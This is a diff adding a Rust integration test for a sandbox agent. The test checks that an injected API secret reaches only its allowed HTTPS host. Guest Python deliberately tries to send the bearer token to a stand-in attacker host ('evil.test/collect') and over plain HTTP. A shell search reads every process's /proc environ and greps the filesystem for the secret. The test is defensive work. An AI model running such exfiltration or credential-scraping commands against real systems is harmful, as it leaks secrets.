@@ -358,5 +358,138 @@ async fn network_survives_an_agent_restart_and_is_removed_with_the_sandbox() {
     );
     c.remove("keep").await.unwrap();
     assert_eq!(world.leftovers(), Vec::<String>::new());
-    assert!(!std::path::Path::new("/run/netns/msb-keep").exists());
+    let prefix = microsandbox_agent::network::netns_prefix(&agent.state);
+    assert!(!std::path::Path::new("/run/netns")
+        .join(format!("{prefix}keep"))
+        .exists());
+}
+
+/// Python in the sandbox: GET each URL with `Authorization: Bearer $API_KEY`; prints
+/// `[[status, body], ...]`.
+const FETCH: &str = r#"
+import json, os, sys, urllib.request, urllib.error
+out = []
+for url in sys.argv[1:]:
+    req = urllib.request.Request(url, headers={"Authorization": "Bearer " + os.environ["API_KEY"]})
+    try:
+        r = urllib.request.urlopen(req, timeout=10)
+        out.append([r.status, r.read().decode()])
+    except urllib.error.HTTPError as e:
+        out.append([e.code, e.read().decode()])
+    except Exception as e:
+        out.append([0, repr(e)])
+print(json.dumps(out))
+"#;
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn secret_reaches_only_its_allowed_host_and_never_the_guest() {
+    use microsandbox_agent::network::secrets::SandboxCa;
+    const VALUE: &str = "sk-live-9f8e7d6c5b4a39281706";
+    let world = World::new();
+    // The "real" servers' CA, which the agent's proxy is told to trust.
+    let upstream_ca = SandboxCa::generate("test upstream").unwrap();
+    let api = world.https_server(API, "api.secret.test", &upstream_ca);
+    let evil = world.https_server(EVIL, "evil.test", &upstream_ca);
+    let api_plain = world.http_server(API);
+    let ca_file = tempfile::NamedTempFile::new().unwrap();
+    std::fs::write(ca_file.path(), upstream_ca.cert_pem()).unwrap();
+    let mut args = world.agent_args();
+    args.extend(["--upstream-ca".into(), ca_file.path().display().to_string()]);
+    let agent = TestAgent::start_with(
+        "network-secrets",
+        &args.iter().map(String::as_str).collect::<Vec<_>>(),
+    );
+    let c = agent.client();
+    let req: CreateSandbox = serde_json::from_value(serde_json::json!({
+        "name": "sec", "image": "python", "detached": true, "isolation": "container",
+        "memory_mib": 128, "network": {"policy": "public_only"},
+        "secrets": [{"env": "API_KEY", "value": VALUE, "allow_hosts": ["api.secret.test"]}],
+    }))
+    .unwrap();
+    c.create(req).await.unwrap();
+    let out = c
+        .exec(
+            "sec",
+            cmd(
+                "python3",
+                &[
+                    "-c",
+                    FETCH,
+                    "https://api.secret.test/v1/things",
+                    "https://evil.test/collect",
+                    "http://api.secret.test/plain",
+                ],
+            ),
+        )
+        .await
+        .unwrap();
+    let results: Vec<(u16, String)> = serde_json::from_str(out.stdout_str().trim())
+        .unwrap_or_else(|e| panic!("{e}: {}{}", out.stdout_str(), out.stderr_str()));
+    assert_eq!(results[0], (200, "ok".to_string()), "{results:?}");
+    assert_eq!(results[1].0, 403, "{results:?}");
+    assert!(
+        results[1]
+            .1
+            .contains("not on the allowed hosts of secret API_KEY"),
+        "{results:?}"
+    );
+    assert_eq!(results[2].0, 403, "{results:?}");
+    assert!(results[2].1.contains("only sent over HTTPS"), "{results:?}");
+    // The allowed API got the real value; the others got nothing at all.
+    let api_seen = api.lock().unwrap().clone();
+    assert_eq!(api_seen.len(), 1, "{api_seen:?}");
+    assert!(
+        api_seen[0].contains(&format!("authorization: Bearer {VALUE}")),
+        "{api_seen:?}"
+    );
+    assert!(evil.lock().unwrap().is_empty());
+    assert!(api_plain.lock().unwrap().is_empty());
+    // Reported, with where it went and why.
+    let v = c.secret_violations("sec").await.unwrap();
+    let hosts: Vec<(&str, &str)> = v
+        .iter()
+        .map(|v| (v.secret.as_str(), v.host.as_str()))
+        .collect();
+    assert_eq!(
+        hosts,
+        [("API_KEY", "evil.test"), ("API_KEY", "api.secret.test")]
+    );
+    // The guest holds a placeholder, nowhere the value: environment, every process's
+    // environment, the whole filesystem.
+    let env = sh(&c, "sec", "echo $API_KEY")
+        .await
+        .stdout_str()
+        .trim()
+        .to_string();
+    assert!(env.starts_with("msb-secret-api-key-"), "{env}");
+    // Each search has a positive control, so a search that cannot find anything fails the test.
+    let search = format!(
+        "V={VALUE:?}; P=\"$API_KEY\"; \
+         env | grep -qF -- \"$V\" && echo FOUND-IN-ENV; \
+         cat /proc/[0-9]*/environ | tr '\\0' '\\n' > /tmp/environs; \
+         grep -qF -- \"$V\" /tmp/environs && echo FOUND-IN-PROC; \
+         grep -qF -- \"$P\" /tmp/environs && echo CONTROL-PROC; rm /tmp/environs; \
+         D=$(ls -d /* | grep -vxE '/(proc|sys|dev)'); \
+         grep -rqsF -D skip -- \"$V\" $D && echo FOUND-ON-DISK; \
+         grep -rqsF -D skip -- 'written by microsandbox' $D && echo CONTROL-DISK; true"
+    );
+    let found = sh(&c, "sec", &search).await.stdout_str().to_string();
+    let lines: Vec<&str> = found.lines().collect();
+    assert_eq!(
+        lines,
+        ["CONTROL-PROC", "CONTROL-DISK"],
+        "searches for the value in the guest"
+    );
+    assert!(!agent.log().contains(VALUE), "value in the agent log");
+    // Host side: the value is only in the agent's 0600 file, which goes with the sandbox.
+    let secrets_file = agent.state.join("sandboxes/sec/secrets.json");
+    let mode = std::os::unix::fs::PermissionsExt::mode(
+        &std::fs::metadata(&secrets_file).unwrap().permissions(),
+    );
+    assert_eq!(mode & 0o777, 0o600);
+    let state_json = std::fs::read_to_string(agent.state.join("sandboxes/sec/state.json")).unwrap();
+    assert!(!state_json.contains(VALUE), "value in state.json");
+    c.remove("sec").await.unwrap();
+    assert!(!secrets_file.exists());
+    assert_eq!(world.leftovers(), Vec::<String>::new());
 }
